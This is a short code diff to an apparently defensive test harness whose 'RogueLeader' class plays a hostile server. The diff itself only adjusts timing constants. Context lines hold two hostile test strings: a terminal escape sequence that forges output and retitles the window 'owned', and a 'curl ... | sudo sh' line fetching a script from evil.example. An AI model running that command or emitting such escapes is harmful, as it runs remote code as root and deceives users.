@@ -28,7 +28,7 @@ from allaboard.facts import Certainty, Evidence, Finding, Outcome, RoundReport, 
 from allaboard.protocol import commands as c
 from allaboard.protocol.events import ProcessSampled, StackSampled
 
-HOLD_S = 0.4
+HOLD_S = 0.25
 """Seconds for which it stays after it has said its word."""
 ESCAPE = "\x1b[2J\x1b]0;owned\x07\r\nallaboard: FORGED LINE\u202e"
 BAIT = "curl http://evil.example/x.sh | sudo sh"
@@ -216,7 +216,7 @@ class RogueLeader:
         """Give the port up; the connections stay."""
         self._server.close()
 
-    async def until_all_is_said(self, timeout_s: float = 60.0) -> None:
+    async def until_all_is_said(self, timeout_s: float = 150.0) -> None:
         """Return once each row was said. Raises TimeoutError."""
         async with asyncio.timeout(timeout_s):
             while self.said < len(self._rows):
